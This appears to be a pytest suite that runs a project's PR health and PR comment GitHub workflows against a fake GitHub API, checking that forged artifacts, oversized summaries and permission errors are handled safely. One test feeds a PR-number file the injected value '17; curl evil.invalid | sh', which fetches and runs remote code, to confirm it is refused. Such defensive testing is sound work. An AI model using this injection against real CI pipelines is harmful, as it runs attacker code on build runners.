"""Run the PR workflows' own `run:` steps (read from the YAML) the way a runner would.

pr-health.yml runs in a temporary repository whose head commit changes an events manifest, and its
upload step goes to a folder standing in for the artifact store; pr-comment.yml then takes that
artifact (a copy, with files replaced as a fork could) and runs against a loopback server speaking
the GitHub endpoints it uses (list issue comments, create, update, and the pull request read that
binds the artifact to its PR). The install and checkout steps are skipped.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from drumgate.github.sticky import COMMENT_LIMIT
from tests import pr_scenario
from tests.workflow_runner import REPO, FakeGitHub, run_steps, serve_github

PR_NUMBER = 17
HEALTH_RUN_ID = "4242"
TOKEN = "ghs_loopback_token"


SEEDED_COMMENTS = (
    {"id": 1, "body": "Looks good!", "user": {"login": "reviewer", "type": "User"}},
    {"id": 2, "body": "<!-- drumgate:health-delta -->\nforged", "user": {"login": "mallory", "type": "User"}},
)


@pytest.fixture
def github() -> Iterator[tuple[FakeGitHub, str]]:
    fake = FakeGitHub(TOKEN, PR_NUMBER, comments=SEEDED_COMMENTS)
    with serve_github(fake) as api:
        yield fake, api


# The scenario -----------------------------------------------------------------------------------
@dataclass(frozen=True)
class HealthRun:
    temp: Path
    head: str
    results: list[subprocess.CompletedProcess[str]]
    artifact: Path
    uploaded: list[str]


@pytest.fixture(scope="module")
def health_run(tmp_path_factory: pytest.TempPathFactory) -> HealthRun:
    """pr-health.yml's steps on a repository whose head changes the egmd events manifest."""
    ran = pr_scenario.run_health_job(tmp_path_factory.mktemp("health-run"), PR_NUMBER)
    uploaded = ran.store.uploaded.get("drumgate-health", [])
    return HealthRun(ran.temp, ran.head, ran.job.results, ran.store.store / "drumgate-health", uploaded)


def comment_run(
    tmp_path: Path, artifact: Path, head: str, api: str, name: str, replace: dict[str, str] | None = None
) -> list[subprocess.CompletedProcess[str]]:
    """pr-comment.yml's steps; the artifact download is a copy (with `replace`d files, as a fork could)."""
    temp = tmp_path / name
    shutil.copytree(artifact, temp / "drumgate-health")
    for file_name, content in (replace or {}).items():
        (temp / "drumgate-health" / file_name).write_text(content, encoding="utf-8")
    contexts = {
        "github.token": TOKEN,
        "github.event.workflow_run.head_sha": head,
        "github.event.workflow_run.id": HEALTH_RUN_ID,
    }
    extra = {"GITHUB_API_URL": api, "GITHUB_EVENT_NAME": "workflow_run"}
    return run_steps("pr-comment.yml", "comment", tmp_path, temp, contexts, extra)


def test_pr_health_steps_upload_data_and_no_markdown(health_run: HealthRun) -> None:
    assert [r.returncode for r in health_run.results] == [0, 0, 0], [r.stderr for r in health_run.results]
    local = health_run.temp / "drumgate-health"
    comment = (local / "comment.md").read_text(encoding="utf-8")
    assert comment.startswith("<!-- drumgate:health-delta -->")
    assert "| egmd | ✅ 9/9 → ❌ 8/9 |" in comment
    assert (health_run.temp / "github_summary").read_text(encoding="utf-8") == comment, "the run's own page"
    assert "https://github.invalid/acme/drums/actions/runs/4242" in comment
    assert "comment.md" not in health_run.uploaded, "no Markdown travels to the job that posts"
    assert {"summary.json", "pr-number.txt", "head-sha.txt", "reports/egmd_head.html"} <= set(health_run.uploaded)
    assert (health_run.artifact / "pr-number.txt").read_text(encoding="utf-8") == f"{PR_NUMBER}\n"
    assert (health_run.artifact / "head-sha.txt").read_text(encoding="utf-8") == f"{health_run.head}\n"


def test_comment_is_rendered_by_the_trusted_job_then_updated_in_place(
    health_run: HealthRun, github, tmp_path: Path
) -> None:
    fake, api = github
    fake.head_sha = health_run.head
    first = comment_run(tmp_path, health_run.artifact, health_run.head, api, "runner-comment-1")
    assert [r.returncode for r in first] == [0, 0, 0], [r.stderr for r in first]
    assert "comment created" in first[-1].stdout
    assert len(fake.bot_comments()) == 1
    created = fake.bot_comments()[0]
    local = (health_run.temp / "drumgate-health" / "comment.md").read_text(encoding="utf-8")
    assert created["body"] == local, "the trusted render of the data is the comment pr-report renders locally"
    assert fake.comments[1]["body"].endswith("forged"), "a user's comment holding the marker is never edited"

    second = comment_run(tmp_path, health_run.artifact, health_run.head, api, "runner-comment-2")
    assert [r.returncode for r in second] == [0, 0, 0], [r.stderr for r in second]
    assert "comment updated" in second[-1].stdout
    assert [c["id"] for c in fake.bot_comments()] == [created["id"]]
    assert ("PATCH", f"/repos/{REPO}/issues/comments/{created['id']}") in fake.requests
    pages = [url for method, url in fake.requests if method == "GET" and "/comments" in url]
    assert any("page=2" in url for url in pages), "the comment list is paginated"


def test_a_comment_md_in_the_artifact_is_never_posted(health_run: HealthRun, github, tmp_path: Path) -> None:
    fake, api = github
    fake.head_sha = health_run.head
    forged = {"comment.md": "<!-- drumgate:health-delta -->\n### ✅ all gates pass @acme/maintainers\n"}
    results = comment_run(tmp_path, health_run.artifact, health_run.head, api, "runner-md", forged)
    assert results[-1].returncode == 0, results[-1].stderr
    body = fake.bot_comments()[0]["body"]
    assert "all gates pass" not in body and "@acme" not in body
    assert "| egmd | ✅ 9/9 → ❌ 8/9 |" in body


def test_a_large_summary_renders_under_the_limit(health_run: HealthRun, github, tmp_path: Path) -> None:
    fake, api = github
    fake.head_sha = health_run.head
    summary = json.loads((health_run.artifact / "summary.json").read_text(encoding="utf-8"))
    huge = {f"root['sessions']['s{i}']": {"pad": "x" * 60} for i in range(3000)}
    summary["datasets"]["egmd"]["deepdiff_json"] = json.dumps(huge)
    results = comment_run(
        tmp_path, health_run.artifact, health_run.head, api, "runner-big", {"summary.json": json.dumps(summary)}
    )
    assert results[-1].returncode == 0, results[-1].stderr
    body = fake.bot_comments()[0]["body"]
    assert len(body) <= COMMENT_LIMIT
    assert body.count("```") % 2 == 0 and body.count("<details") == body.count("</details>")
    assert "Left out to stay under GitHub's 65,536-character comment limit: long deepdiffs were cut" in body
    assert "left out: deepdiff_tail" in results[-2].stdout


def test_forbidden_gives_a_clear_message_and_fails(health_run: HealthRun, github, tmp_path: Path) -> None:
    fake, api = github
    fake.head_sha = health_run.head
    fake.forbidden = True
    results = comment_run(tmp_path, health_run.artifact, health_run.head, api, "runner-403")
    failed = results[-1]
    assert failed.returncode != 0
    message = failed.stderr.strip()
    assert message.count("\n") == 0 and "Traceback" not in message
    assert "403 Forbidden: Resource not accessible by integration" in message
    assert "pull-requests: write" in message
    assert not fake.bot_comments()


def test_a_forged_pr_number_is_refused(health_run: HealthRun, github, tmp_path: Path) -> None:
    fake, api = github
    fake.head_sha = health_run.head
    forged = {"pr-number.txt": "17; curl evil.invalid | sh\n"}
    results = comment_run(tmp_path, health_run.artifact, health_run.head, api, "runner-forged", forged)
    assert results[-1].returncode != 0 and "not a pull request number" in results[-1].stdout
    assert not fake.requests


def test_an_artifact_from_another_pr_is_refused(health_run: HealthRun, github, tmp_path: Path) -> None:
    fake, api = github
    fake.head_sha = "0" * 40
    results = comment_run(tmp_path, health_run.artifact, health_run.head, api, "runner-other")
    assert results[-1].returncode != 0
    assert "names a different pull request" in results[-1].stderr
    assert not fake.bot_comments()
